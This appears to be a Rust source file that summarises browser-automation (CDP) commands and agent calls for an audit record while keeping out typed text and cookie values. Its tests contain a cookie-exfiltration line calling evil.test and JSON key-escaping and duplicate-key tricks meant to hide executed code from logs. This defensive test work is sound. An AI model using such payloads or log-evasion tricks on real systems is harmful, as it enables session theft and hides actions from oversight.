//! What goes into the record, and in which words: pure functions over a
//! CDP command or an agent's call. Everything not named here stays out.
//! Nothing typed is kept (only its length), nor cookie values, nor a
//! dialog's prompt text, nor file contents (only file names).
//!
//! A command is read as what runs it reads it: Chrome (and the extension's
//! `JSON.parse`) unescapes keys (`"\u0065xpression"` is `expression`) and
//! takes the last of a key given twice; a managed browser's pipe reads a
//! frame's top-level members that way before it sends the frame on. So
//! what the record says ran is what ran.

use std::collections::BTreeMap;

use serde_json::value::RawValue;
use serde_json::{Map, Value};

use crate::Kind;

/// Characters of a URL or an expression kept.
const TEXT_KEPT: usize = 160;

/// A CDP command, as the record tells it: `None` for everything that is
/// not recorded. Only the method is looked at for those, so the cost on a
/// relay command is one string match.
pub fn cdp_command(method: &str, params: Option<&str>) -> Option<(Kind, String)> {
    let kind = cdp_kind(method)?;
    if kind == Kind::Evaluation {
        let (verb, key) =
            if method == "Runtime.evaluate" { ("evaluate", "expression") } else { ("call", "functionDeclaration") };
        let code = params.and_then(|p| code_start(p, key)).unwrap_or_default();
        return Some((kind, format!("{verb}: {}", cut(&code))));
    }
    let params: Map<String, Value> = params.and_then(|p| serde_json::from_str(p).ok()).unwrap_or_default();
    let text = |key: &str| params.get(key).and_then(Value::as_str).unwrap_or_default();
    let summary = match method {
        "Page.navigate" => format!("navigate to {}", cut(text("url"))),
        "Page.reload" => "reload".into(),
        "Page.navigateToHistoryEntry" => "go to a history entry".into(),
        "Page.stopLoading" => "stop loading".into(),
        "Input.dispatchMouseEvent" => match text("type") {
            "mousePressed" => {
                let at = |key: &str| params.get(key).and_then(Value::as_f64).unwrap_or_default().round();
                let button = params.get("button").and_then(Value::as_str).unwrap_or("left");
                format!("{button} click at ({}, {})", at("x"), at("y"))
            }
            "mouseWheel" => "scroll".into(),
            _ => return None,
        },
        "Input.dispatchKeyEvent" => match text("type") {
            "keyDown" | "rawKeyDown" => key_summary(text("key")),
            _ => return None,
        },
        "Input.insertText" | "Input.imeSetComposition" => typed(text("text")),
        "Input.dispatchTouchEvent" if text("type") == "touchStart" => "tap".into(),
        "Input.dispatchTouchEvent" => return None,
        "Input.dispatchDragEvent" if text("type") == "drop" => "drop".into(),
        "Input.dispatchDragEvent" => return None,
        "DOM.setFileInputFiles" => files(params.get("files")),
        "Page.handleJavaScriptDialog" => {
            let accept = params.get("accept").and_then(Value::as_bool).unwrap_or(false);
            if accept { "accept a dialog" } else { "dismiss a dialog" }.into()
        }
        "Browser.setDownloadBehavior" | "Page.setDownloadBehavior" => {
            format!("downloads: {}", text("behavior"))
        }
        "Browser.cancelDownload" => "cancel a download".into(),
        "Target.createTarget" => format!("open a tab at {}", cut(text("url"))),
        "Target.closeTarget" | "Page.close" => "close a tab".into(),
        "Target.activateTarget" | "Page.bringToFront" => "bring a tab to the front".into(),
        "Network.setCookie" | "Network.setCookies" | "Storage.setCookies" => cookies("set", &params),
        "Network.getCookies" | "Network.getAllCookies" | "Storage.getCookies" => "read cookies".into(),
        "Network.deleteCookies" => cookies("delete", &params),
        "Network.clearBrowserCookies" | "Storage.clearCookies" => "clear all cookies".into(),
        "Page.captureScreenshot" => "screenshot".into(),
        "Page.printToPDF" => "print to PDF".into(),
        "Page.startScreencast" => "start a screencast".into(),
        _ => return None,
    };
    Some((kind, summary))
}

/// The kind of a recorded CDP method; `None`: not recorded.
fn cdp_kind(method: &str) -> Option<Kind> {
    Some(match method {
        "Page.navigate" | "Page.reload" | "Page.navigateToHistoryEntry" | "Page.stopLoading" => Kind::Navigation,
        "Input.dispatchMouseEvent"
        | "Input.dispatchKeyEvent"
        | "Input.insertText"
        | "Input.imeSetComposition"
        | "Input.dispatchTouchEvent"
        | "Input.dispatchDragEvent" => Kind::Input,
        "Runtime.evaluate" | "Runtime.callFunctionOn" => Kind::Evaluation,
        "DOM.setFileInputFiles" => Kind::Upload,
        "Page.handleJavaScriptDialog" => Kind::Dialog,
        "Browser.setDownloadBehavior" | "Page.setDownloadBehavior" | "Browser.cancelDownload" => Kind::Download,
        "Target.createTarget" | "Target.closeTarget" | "Page.close" | "Target.activateTarget" | "Page.bringToFront" => {
            Kind::Tab
        }
        "Network.setCookie"
        | "Network.setCookies"
        | "Storage.setCookies"
        | "Network.getCookies"
        | "Network.getAllCookies"
        | "Storage.getCookies"
        | "Network.deleteCookies"
        | "Network.clearBrowserCookies"
        | "Storage.clearCookies" => Kind::Cookies,
        "Page.captureScreenshot" | "Page.printToPDF" | "Page.startScreencast" => Kind::Capture,
        _ => return None,
    })
}

/// A CDP frame as it goes to a managed browser's pipe (not parsed by the
/// relay), read as the pipe reads it before it sends it on: its top-level
/// members, keys unescaped, the last of a repeated one (`BTreeMap<String,
/// RawValue>` in `managed-driver`'s `pipe.rs`). So `"\u006dethod"` or a
/// second `"method"` cannot run one command while the record reads
/// another.
pub fn cdp_frame(frame: &str) -> Option<(Kind, String)> {
    // What the record leaves out costs a string match or two: in a frame
    // with no escape and one `"method"`, that one is the method the pipe
    // reads.
    if !frame.contains('\\') && frame.matches("\"method\"").nth(1).is_none() {
        cdp_kind(method_of(frame)?)?;
    }
    let members: BTreeMap<String, &RawValue> = serde_json::from_str(frame).ok()?;
    let method: String = serde_json::from_str(members.get("method")?.get()).ok()?;
    cdp_command(&method, members.get("params").map(|params| params.get()))
}

/// The value of the frame's first `"method"` key, without parsing it.
fn method_of(frame: &str) -> Option<&str> {
    let at = frame.find("\"method\"")? + "\"method\"".len();
    let rest = frame[at..].trim_start().strip_prefix(':')?.trim_start().strip_prefix('"')?;
    rest.split_once('"').map(|(method, _)| method)
}

/// The start of the code under `key` in a command's params, the key as
/// Chrome reads it (unescaped, the last of a repeated one). A framework's
/// scripts run to hundreds of KiB: the params are checked, not copied, and
/// only the start of the code is unescaped.
fn code_start(params: &str, key: &str) -> Option<String> {
    let members: BTreeMap<String, &RawValue> = serde_json::from_str(params).ok()?;
    string_start(members.get(key)?.get(), TEXT_KEPT + 1)
}

/// The first `max` characters of a JSON string (its text, quotes and
/// all), unescaped; `None` for a value that is not a string.
fn string_start(literal: &str, max: usize) -> Option<String> {
    let mut chars = literal.strip_prefix('"')?.chars();
    let mut out = String::new();
    for _ in 0..max {
        let c = match chars.next()? {
            '"' => break,
            '\\' => match chars.next()? {
                'n' | 't' | 'r' | 'b' | 'f' => ' ',
                'u' => {
                    let unit = |chars: &mut std::str::Chars<'_>| {
                        u32::from_str_radix(&chars.by_ref().take(4).collect::<String>(), 16).ok()
                    };
                    match unit(&mut chars)? {
                        high @ 0xD800..=0xDBFF => {
                            let rest = chars.as_str();
                            let low = rest.strip_prefix("\\u").and_then(|r| u32::from_str_radix(r.get(..4)?, 16).ok());
                            match low {
                                Some(low @ 0xDC00..=0xDFFF) => {
                                    chars.nth(5);
                                    char::from_u32(0x10000 + ((high - 0xD800) << 10) + (low - 0xDC00)).unwrap_or('?')
                                }
                                _ => '?',
                            }
                        }
                        unit => char::from_u32(unit).unwrap_or('?'),
                    }
                }
                other => other,
            },
            c => c,
        };
        out.push(c);
    }
    Some(out)
}

/// A key press: named keys by name (Enter, Tab), a character as such
/// (it could be part of a password).
fn key_summary(key: &str) -> String {
    if key.chars().count() > 1 { format!("press {key}") } else { "press a character key".into() }
}

fn typed(text: &str) -> String {
    format!("type {}", characters(text))
}

/// How long a text is, never what it says.
fn characters(text: &str) -> String {
    let n = text.chars().count();
    format!("{n} character{}", if n == 1 { "" } else { "s" })
}

fn files(files: Option<&Value>) -> String {
    let names: Vec<&str> = files
        .and_then(Value::as_array)
        .map(|files| files.iter().filter_map(Value::as_str).map(base_name).collect())
        .unwrap_or_default();
    format!("upload {}", if names.is_empty() { "no file".into() } else { names.join(", ") })
}

/// A file's name without its folders (either separator).
fn base_name(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// Which sites' cookies were set or deleted: names and domains, never values.
fn cookies(verb: &str, params: &Map<String, Value>) -> String {
    let one = |cookie: &Map<String, Value>| {
        let name = cookie.get("name").and_then(Value::as_str).unwrap_or("?");
        let site = ["domain", "url"].iter().find_map(|k| cookie.get(*k).and_then(Value::as_str)).unwrap_or("");
        if site.is_empty() { name.to_string() } else { format!("{name} for {}", cut(site)) }
    };
    let list: Vec<String> = match params.get("cookies").and_then(Value::as_array) {
        Some(cookies) => cookies.iter().filter_map(Value::as_object).map(one).collect(),
        None => vec![one(params)],
    };
    format!("{verb} cookie{} {}", if list.len() == 1 { "" } else { "s" }, list.join(", "))
}

/// `text` in at most [`TEXT_KEPT`] characters, on one line.
fn cut(text: &str) -> String {
    let line: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= TEXT_KEPT {
        return line;
    }
    let kept: String = line.chars().take(TEXT_KEPT).collect();
    format!("{kept}…")
}

/// An agent's call of the control API, as the record tells it: `None` for
/// reads (snapshots, tabs, console, requests: they change nothing). `body`
/// is the request's JSON object (the selector's fields in it).
pub fn agent_call(method: &str, path: &str, body: &Value) -> Option<(Kind, String)> {
    if method == "GET" {
        return None;
    }
    let text = |key: &str| body.get(key).and_then(Value::as_str).unwrap_or_default();
    let (kind, summary) = match path {
        "/navigate" => (Kind::Navigation, format!("navigate to {}", cut(text("url")))),
        "/back" => (Kind::Navigation, "go back".into()),
        "/forward" => (Kind::Navigation, "go forward".into()),
        "/tabs/open" => (Kind::Tab, format!("open a tab at {}", cut(text("url")))),
        "/tabs/focus" => (Kind::Tab, "focus a tab".into()),
        "/start" => (Kind::Connection, "start the browser".into()),
        "/stop" => (Kind::Connection, "stop the browser".into()),
        "/screenshot" => (Kind::Capture, "screenshot".into()),
        "/pdf" => (Kind::Capture, "print to PDF".into()),
        "/hooks/dialog" => {
            let accept = body.get("accept").and_then(Value::as_bool).unwrap_or(true);
            (Kind::Dialog, format!("arm the next dialog: {}", if accept { "accept" } else { "dismiss" }))
        }
        "/hooks/file-chooser" => (Kind::Upload, files(body.get("paths").or_else(|| body.get("files")))),
        "/act" => act(body),
        _ if path.starts_with("/tabs/") => (Kind::Tab, "close a tab".into()),
        _ => return None,
    };
    Some((kind, summary))
}

/// `POST /act`: its kind and target, with typed text as its length.
fn act(body: &Value) -> (Kind, String) {
    let kind = cut(body.get("kind").and_then(Value::as_str).unwrap_or("act"));
    let element = body.get("ref").and_then(Value::as_str).map(|r| format!(" {}", cut(r))).unwrap_or_default();
    let text = |key: &str| body.get(key).and_then(Value::as_str).unwrap_or_default();
    match kind.as_str() {
        "evaluate" => {
            let code = ["function", "expression"].iter().map(|k| text(k)).find(|t| !t.is_empty()).unwrap_or("");
            (Kind::Evaluation, format!("evaluate{element}: {}", cut(code)))
        }
        "type" => (Kind::Input, format!("type into{element}: {}", characters(text("text")))),
        "fill" => {
            let fields = body.get("fields").and_then(Value::as_array).map_or(0, Vec::len);
            (Kind::Input, format!("fill {fields} field{}", if fields == 1 { "" } else { "s" }))
        }
        "press" => (Kind::Input, format!("press {}", cut(text("key")))),
        "select" => (Kind::Input, format!("select in{element}")),
        "close" => (Kind::Tab, "close the tab".into()),
        _ => (Kind::Input, format!("{kind}{element}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_frameworks_reads_stay_out() {
        for method in
            ["DOM.getDocument", "Runtime.enable", "Page.getFrameTree", "Network.enable", "Input.setIgnoreInputEvents"]
        {
            assert_eq!(cdp_command(method, Some("{}")), None, "{method}");
        }
        assert_eq!(cdp_command("Input.dispatchMouseEvent", Some(r#"{"type":"mouseMoved","x":1,"y":2}"#)), None);
        assert_eq!(cdp_command("Input.dispatchKeyEvent", Some(r#"{"type":"keyUp","key":"a"}"#)), None);
    }

    #[test]
    fn what_a_user_would_look_for_is_told_plainly() {
        let cases = [
            (
                "Page.navigate",
                json!({"url": "https://example.test/a"}),
                Kind::Navigation,
                "navigate to https://example.test/a",
            ),
            (
                "Input.dispatchMouseEvent",
                json!({"type": "mousePressed", "x": 10.4, "y": 20.6, "button": "left"}),
                Kind::Input,
                "left click at (10, 21)",
            ),
            ("Input.dispatchKeyEvent", json!({"type": "keyDown", "key": "Enter"}), Kind::Input, "press Enter"),
            (
                "DOM.setFileInputFiles",
                json!({"files": ["/home/me/secret/cv.pdf", "C:\\Users\\me\\a.png"]}),
                Kind::Upload,
                "upload cv.pdf, a.png",
            ),
            (
                "Page.handleJavaScriptDialog",
                json!({"accept": true, "promptText": "hunter2"}),
                Kind::Dialog,
                "accept a dialog",
            ),
            (
                "Browser.setDownloadBehavior",
                json!({"behavior": "allow", "downloadPath": "/tmp"}),
                Kind::Download,
                "downloads: allow",
            ),
            ("Target.createTarget", json!({"url": "about:blank"}), Kind::Tab, "open a tab at about:blank"),
        ];
        for (method, params, kind, summary) in cases {
            assert_eq!(cdp_command(method, Some(&params.to_string())), Some((kind, summary.into())), "{method}");
        }
    }

    #[test]
    fn typed_text_cookie_values_and_prompt_text_never_get_in() {
        let secret = "hunter2-correct-horse";
        for (method, params) in [
            ("Input.insertText", json!({"text": secret})),
            ("Input.dispatchKeyEvent", json!({"type": "keyDown", "key": "h", "text": "h"})),
            ("Network.setCookie", json!({"name": "sid", "value": secret, "domain": "example.test"})),
            ("Storage.setCookies", json!({"cookies": [{"name": "sid", "value": secret, "url": "https://x.test"}]})),
            ("Page.handleJavaScriptDialog", json!({"accept": true, "promptText": secret})),
        ] {
            let (_, summary) = cdp_command(method, Some(&params.to_string())).unwrap();
            assert!(!summary.contains(secret) && !summary.contains("hunter2"), "{method}: {summary}");
            assert!(!summary.split_whitespace().any(|w| w == "h"), "{method}: a typed character leaks: {summary}");
        }
        assert_eq!(
            cdp_command("Input.insertText", Some(&json!({"text": secret}).to_string())).unwrap().1,
            "type 21 characters"
        );
        let (_, typed) = agent_call("POST", "/act", &json!({"kind": "type", "ref": "e4", "text": secret})).unwrap();
        assert_eq!(typed, "type into e4: 21 characters");
        let (_, fill) =
            agent_call("POST", "/act", &json!({"kind": "fill", "fields": [{"ref": "e1", "value": secret}]})).unwrap();
        assert!(!fill.contains(secret), "{fill}");
    }

    #[test]
    fn agent_reads_stay_out_and_actions_name_their_ref() {
        assert_eq!(agent_call("GET", "/snapshot", &json!({})), None);
        assert_eq!(agent_call("GET", "/tabs", &json!({})), None);
        assert_eq!(
            agent_call("POST", "/act", &json!({"kind": "click", "ref": "e7", "profile": "managed"})),
            Some((Kind::Input, "click e7".into()))
        );
        assert_eq!(
            agent_call("POST", "/navigate", &json!({"url": "https://example.test/"})),
            Some((Kind::Navigation, "navigate to https://example.test/".into()))
        );
        assert_eq!(
            agent_call("DELETE", "/tabs/T1", &json!({"targetId": "T1"})),
            Some((Kind::Tab, "close a tab".into()))
        );
    }

    #[test]
    fn a_piped_frame_is_read_without_parsing_what_is_not_recorded() {
        assert_eq!(method_of(r#"{"id":1, "method" : "Page.navigate","params":{}}"#), Some("Page.navigate"));
        assert_eq!(cdp_frame(r#"{"id":1,"method":"DOM.getDocument"}"#), None);
        assert_eq!(
            cdp_frame(r#"{"id":1,"sessionId":"S","method":"Page.navigate","params":{"url":"https://a.test/"}}"#),
            Some((Kind::Navigation, "navigate to https://a.test/".into()))
        );
        assert_eq!(cdp_frame("not json"), None);
        let script = format!("document.title; {}", "x".repeat(300 << 10));
        let evaluate = json!({"id": 2, "method": "Runtime.evaluate", "params": {"expression": script}}).to_string();
        let (kind, summary) = cdp_frame(&evaluate).unwrap();
        assert_eq!(kind, Kind::Evaluation);
        assert!(summary.starts_with("evaluate: document.title; xxx") && summary.ends_with('…'), "{summary}");
    }

    #[test]
    fn code_is_read_from_the_start_of_its_string() {
        let params = json!({"expression": "document.title = \"a\\b\"\n + 'é'", "returnByValue": true}).to_string();
        assert_eq!(code_start(&params, "expression").as_deref(), Some("document.title = \"a\\b\"  + 'é'"));
        assert_eq!(code_start(r#"{"expression": "\u00e9x\ud83d\ude00!"}"#, "expression").as_deref(), Some("éx😀!"));
        assert_eq!(string_start(r#""abcdef""#, 3).as_deref(), Some("abc"));
        assert_eq!(code_start(r#"{"other": 1}"#, "expression"), None);
        assert_eq!(code_start(r#"{"expression": 1}"#, "expression"), None);
    }

    /// Issue 46, item 4: the summary read the first `"expression"` in the
    /// text, while Chrome runs the key it unescapes, and the last of a
    /// repeated one (checked against Chromium: `{"expression":"'first'",
    /// "expression":"'last'"}` evaluates `'last'`).
    #[test]
    fn an_escaped_or_repeated_key_cannot_hide_the_code_that_runs() {
        let steal = "fetch('https://evil.test/?c=' + document.cookie)";
        let summary = format!("evaluate: {steal}");
        for params in [
            format!(r#"{{"\u0065xpression":"{steal}"}}"#),
            format!(r#"{{"expression":"1","expression":"{steal}"}}"#),
            format!(
                r#"{{"serializationOptions":{{"additionalParameters":{{"expression":"1"}}}},"expression":"{steal}"}}"#
            ),
        ] {
            assert_eq!(
                cdp_command("Runtime.evaluate", Some(&params)),
                Some((Kind::Evaluation, summary.clone())),
                "{params}"
            );
        }
        let call = format!(r#"{{"functionDeclaration":"() => 1","functionDeclar\u0061tion":"() => {steal}"}}"#);
        assert_eq!(cdp_command("Runtime.callFunctionOn", Some(&call)).unwrap().1, format!("call: () => {steal}"));
        // Other params are read as Chrome reads them too.
        let navigate = r#"{"url":"https://example.test/","\u0075rl":"https://evil.test/"}"#;
        assert_eq!(cdp_command("Page.navigate", Some(navigate)).unwrap().1, "navigate to https://evil.test/");
    }

    /// Issue 46, item 4: a managed browser's pipe reads a frame's members
    /// unescaped and keeps the last of a repeated one before it sends the
    /// frame on; the summary read the first `"method"` in the text.
    #[test]
    fn a_piped_frame_is_read_as_the_pipe_reads_it() {
        let steal = "fetch('https://evil.test/?c=' + document.cookie)";
        let evaluation = Some((Kind::Evaluation, format!("evaluate: {steal}")));
        for frame in [
            format!(
                r#"{{"id":1,"method":"DOM.getDocument","method":"Runtime.evaluate","params":{{"expression":"{steal}"}}}}"#
            ),
            format!(r#"{{"id":1,"\u006dethod":"Runtime.evaluate","params":{{"expression":"{steal}"}}}}"#),
            format!(r#"{{"id":1,"method":"Runtime.\u0065valuate","params":{{"expression":"{steal}"}}}}"#),
            format!(
                r#"{{"id":1,"params":{{"method":"DOM.getDocument","expression":"{steal}"}},"method":"Runtime.evaluate"}}"#
            ),
            format!(r#"{{"id":1,"method":"Runtime.evaluate","params":{{"\u0065xpression":"{steal}"}}}}"#),
            format!(
                r#"{{"id":1,"method":"Runtime.evaluate","params":{{"expression":"1"}},"params":{{"expression":"{steal}"}}}}"#
            ),
        ] {
            assert_eq!(cdp_frame(&frame), evaluation, "{frame}");
        }
        // A frame whose last method is a read stays out.
        assert_eq!(cdp_frame(r#"{"id":1,"method":"Runtime.evaluate","method":"DOM.getDocument"}"#), None);
    }

    #[test]
    fn long_text_is_cut_on_one_line() {
        let long = format!("{}\n{}", "a".repeat(100), "b".repeat(100));
        let (_, summary) = cdp_command("Runtime.evaluate", Some(&json!({"expression": long}).to_string())).unwrap();
        assert!(summary.ends_with('…') && !summary.contains('\n'));
        assert_eq!(summary.chars().count(), "evaluate: ".len() + TEXT_KEPT + 1);
    }
}
